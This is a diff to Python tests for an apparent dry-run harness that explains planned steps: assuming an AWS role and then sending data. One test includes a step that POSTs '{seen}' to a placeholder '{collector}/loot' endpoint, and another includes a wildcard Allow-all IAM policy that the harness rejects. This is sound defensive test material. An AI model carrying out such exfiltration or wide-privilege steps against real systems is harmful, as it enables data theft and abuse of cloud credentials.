@@ -15,7 +15,7 @@ from harness.examples.world import example_scene
 from harness.explaining import explain, failed, silence
 from harness.host import Host, unused_name
 from harness.planted import Planted
-from harness.seaweed import Seaweed
+from harness.seaweed import VEND_ROLE, Seaweed
 
 Step = dict[str, Any]
 
@@ -155,16 +155,16 @@ def test_a_stand_in_is_all_that_it_gets_of_a_session(rehearsal: Rehearsal) -> No
     )
     lake = rehearsal.lake
     location = lake.tenant.admin.api.load_table(lake.catalog, "sales", "mine", headers={})["metadata"]["location"]
-    filled = policy.replace("{path}", location.rstrip("/")[5:] + "/").replace("{", "{{").replace("}", "}}")
-    role = {"do": "assume-role", "role": "arn:aws:iam::000000000000:role/vend", "policy": filled}
+    filled = policy.replace("{path}", location.rstrip("/")[5:] + "/")
+    role = {"do": "assume-role", "role": VEND_ROLE, "policy": filled}
     told = rehearsal.explain(role, {"do": "send", "method": "POST", "url": "{collector}/loot", "body": "{seen}"})
     assert [step["service"] for step in told["would"]] == ["sts.assume-role", "http.send"]
     assert "dry-run-opens-nothing" in json.dumps(told["would"][1]["body"])
 
 
 def test_a_policy_that_is_too_wide_is_no_step(rehearsal: Rehearsal) -> None:
-    wide = '{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Action":"*","Resource":"*"}}]}}'
-    role = {"do": "assume-role", "role": "arn:aws:iam::000000000000:role/vend", "policy": wide}
+    wide = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}'
+    role = {"do": "assume-role", "role": VEND_ROLE, "policy": wide}
     told = rehearsal.explain(role)
     assert [step["service"] for step in told["would"]] == ["http.send"], "the tale is all that is left"
 
